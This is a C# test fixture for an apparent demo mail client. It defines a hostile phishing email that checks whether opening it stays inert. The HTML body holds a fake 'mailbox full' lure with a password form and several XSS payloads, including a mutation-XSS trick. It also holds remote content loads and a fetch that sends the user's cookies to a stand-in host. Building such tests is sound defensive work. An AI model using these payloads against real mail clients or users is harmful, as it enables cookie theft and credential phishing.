using SalesMailbox.Demo.Content;

namespace SalesMailbox.Demo.Mails;

/// <summary>
/// A hostile email to everyone that tries to run scripts, load content, and steal data. Opening it must do none of these.
/// </summary>
internal static class HostileMails
{
    public static IReadOnlyList<DemoMail> All { get; } =
    [
        new()
        {
            At = DemoTime.Days(1, "03:15"),
            Id = "quota@mail-quota-alert.example",
            From = "Mailbox Team <no-reply@mail-quota-alert.example>",
            To = "Acme Sales <" + DemoConnections.Sales + ">",
            Subject = "Your mailbox is 99% full - action required",
            Text = "Your mailbox is almost full. Sign in at https://mail-quota-alert.example/login to keep your messages.",
            Html = """
                <html><head>
                <base href="https://mail-quota-alert.example/"><meta http-equiv="refresh" content="0;url=https://mail-quota-alert.example/login">
                <style>@import url(https://mail-quota-alert.example/a.css); body { background: url(https://mail-quota-alert.example/b.png) }</style>
                <script>document.title = 'owned'; fetch('https://mail-quota-alert.example/steal?c=' + document.cookie)</script></head>
                <body onload="alert(1)">
                <h2>Your mailbox is 99% full</h2>
                <img src="x" onerror="alert(2)"><svg onload="alert(3)"><script>alert(4)</script></svg>
                <p>Hello, <a href="javascript:alert(5)">keep my messages</a> or <a href="login" onclick="alert(6)">sign in</a>.</p>
                <form action="https://mail-quota-alert.example/login" method="post"><label>Password <input type="password" name="p"></label>
                <button>Keep my messages</button></form>
                <iframe src="https://mail-quota-alert.example/frame"></iframe><object data="https://mail-quota-alert.example/o.swf"></object>
                <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(7)&gt;"></math>
                <div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">You have been signed out.</div>
                </body></html>
                """,
            IsFromProgram = true,
        },
    ];
}
